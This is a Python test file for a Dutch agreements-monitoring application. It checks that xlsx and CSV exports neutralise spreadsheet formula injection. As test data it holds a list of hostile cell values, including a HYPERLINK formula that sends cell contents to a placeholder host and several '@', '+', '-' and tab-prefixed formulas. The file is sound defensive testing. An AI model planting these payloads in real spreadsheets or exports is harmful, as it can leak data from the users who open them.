"""Exports never turn text into formulas (OWASP CSV injection): xlsx cells with text are string
cells, CSV text that a spreadsheet could read as a formula gets a leading apostrophe, numbers stay
numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from conftest import make_client
from gebiedsatlas.agreements import excel, services
from gebiedsatlas.agreements.history import Actor
from gebiedsatlas.safe_cells import csv_text, formula_like
from gebiedsatlas.store import db
from gebiedsatlas.web.exports import to_csv

ACTOR = Actor("test", "test")
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
HOSTILE = [HYPERLINK, "@SUM(1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE + ["=1", "-", "+", "@", "-x", "+31 6 12345678"])
def test_formula_like_text_gets_a_quote(value):
    assert formula_like(value)
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Almere", "", "1+1", "Den Haag = mooi", "'al gequote", "-3,5", "-1.5",
                                   "+31", "-1.234,56", "1e5", "-2E-3"])
def test_plain_text_and_numbers_as_text_unchanged(value):
    assert not formula_like(value)
    assert csv_text(value) == value


def _store(url: str) -> dict:
    """Parties, an agreement, commitments and a realisation whose texts start like formulas."""
    with db.session_scope(url) as session:
        gemeente = services.create_party(session, HYPERLINK, "gemeente", ACTOR, gemeente_code="GM0356")
        corporatie = services.create_party(session, "@SUM(1)", "woningcorporatie", ACTOR)
        huurders = services.create_party(session, "+1+1", "huurdersorganisatie", ACTOR)
        services.create_party(session, "-2+3", "overig", ACTOR)
        agreement = services.create_agreement(session, services.AgreementInput(
            title="=1+1 afspraken", gemeente_code="GM0356", period_start=2026, period_end=2029,
            party_ids=[gemeente.id, corporatie.id, huurders.id], description="@SUM(A1:A9)"), ACTOR)
        output = services.add_commitment(session, agreement, services.CommitmentInput(
            text=HYPERLINK, theme="beschikbaarheid", party_ids=[corporatie.id], target_kind="output",
            output_unit="+1+1 woningen", year_targets={2026: 50.0, 2027: -1.5}), ACTOR)
        services.add_commitment(session, agreement, services.CommitmentInput(
            text="-2+3 minder overlast", theme="leefbaarheid", party_ids=[gemeente.id, huurders.id]), ACTOR)
        services.report_realisation(session, output, services.RealisationInput(
            year=2026, value=-1.5, explanation="@SUM(1)", reported_by_party_id=corporatie.id), ACTOR)
        return {"agreement_id": agreement.id}


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formulas(content: bytes, expected_texts: set[str]) -> list:
    cells = _cells(content)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells}
    assert expected_texts <= values, expected_texts - values  # text preserved exactly, no apostrophe added
    for c in cells:
        if isinstance(c.value, str) and formula_like(c.value):
            assert c.data_type == "s" and c.quotePrefix, (c.parent.title, c.coordinate, c.value)
    return cells


def test_xlsx_exports_write_text_as_text(fresh_db_url):
    ids = _store(fresh_db_url)
    with db.session_scope(fresh_db_url) as session:
        from gebiedsatlas.store.agreements import Agreement

        agreement = session.get(Agreement, ids["agreement_id"])
        agreement_xlsx = excel.agreement_workbook(session, agreement)
        monitoring_xlsx = excel.monitoring_workbook(session)
        template_xlsx = excel.template_workbook(session)

    cells = _assert_no_formulas(agreement_xlsx, {
        HYPERLINK, "=1+1 afspraken", "@SUM(A1:A9)", "+1+1 woningen", "-2+3 minder overlast", "@SUM(1)"})
    numbers = {(c.parent.title, c.value) for c in cells if c.data_type == "n" and c.value is not None}
    assert {("Jaarschijven", 50), ("Jaarschijven", -1.5), ("Realisaties", -1.5), ("Realisaties", 2026)} <= numbers

    _assert_no_formulas(monitoring_xlsx, {HYPERLINK, "=1+1 afspraken", "-2+3 minder overlast", "@SUM(1)"})

    lists = load_workbook(io.BytesIO(template_xlsx))["Lijsten"]
    assert lists["A1"].value == "partij"
    _assert_no_formulas(template_xlsx, {HYPERLINK, "@SUM(1)", "+1+1", "-2+3"})


def test_exported_agreement_imports_with_the_same_texts(fresh_db_url):
    """The quote prefix is a style: the text itself is unchanged, so the export can be imported again."""
    ids = _store(fresh_db_url)
    with db.session_scope(fresh_db_url) as session:
        from gebiedsatlas.store.agreements import Agreement

        content = excel.agreement_workbook(session, session.get(Agreement, ids["agreement_id"]))
    wb = load_workbook(io.BytesIO(content), data_only=True)
    assert wb["Toezeggingen"]["C2"].value == HYPERLINK
    assert wb["Afspraken"]["B2"].value == "=1+1 afspraken"


def test_csv_of_a_frame_quotes_formula_text_but_keeps_numbers():
    frame = pd.DataFrame({
        "naam": [HYPERLINK, "@SUM(1)", "+1+1", "-2+3", "Almere", "-3,5"],
        "waarde": [-1.5, 2.0, -3.0, None, 0.25, 1.0],
        "aantal": [-1, 2, 3, 4, 5, 6],
        "codes": [["=1", "x"], ["a"], [], ["b"], ["c"], ["d"]],
    })
    rows = frame.astype(object).where(frame.notna(), None).to_dict("records")
    for dialect, sep in (("csv", ","), ("csv-nl", ";")):
        body = to_csv(rows, list(frame.columns), dialect=dialect, attribution="=bron")
        table = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=sep))
        assert table[0] == ["naam", "waarde", "aantal", "codes", "bron"]
        assert [r[0] for r in table[1:]] == ["'" + HYPERLINK, "'@SUM(1)", "'+1+1", "'-2+3", "Almere", "-3,5"]
        decimal = "," if dialect == "csv-nl" else "."
        assert [r[1] for r in table[1:]] == [f"-1{decimal}5", "2", "-3", "", f"0{decimal}25", "1"]
        assert [r[2] for r in table[1:]] == ["-1", "2", "3", "4", "5", "6"]
        assert table[1][3] == "'=1|x"
        assert {r[4] for r in table[1:]} == {"'=bron"}


def test_csv_endpoint_quotes_area_names_from_the_data(fresh_db_url):
    with db.session_scope(fresh_db_url) as session:
        session.execute(text("UPDATE area SET name = :name WHERE code = 'GM0034'"), {"name": HYPERLINK})
    with make_client(fresh_db_url) as client:
        for fmt, sep in (("csv", ","), ("csv-nl", ";")):
            response = client.get("/api/areas", params={"q": "GM0034", "format": fmt})
            assert response.status_code == 200
            table = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=sep))
            row = next(r for r in table[1:] if r[0] == "GM0034")
            assert row[1] == "'" + HYPERLINK
            assert row[4].isdigit() and row[5].isdigit()  # first and last year: plain numbers
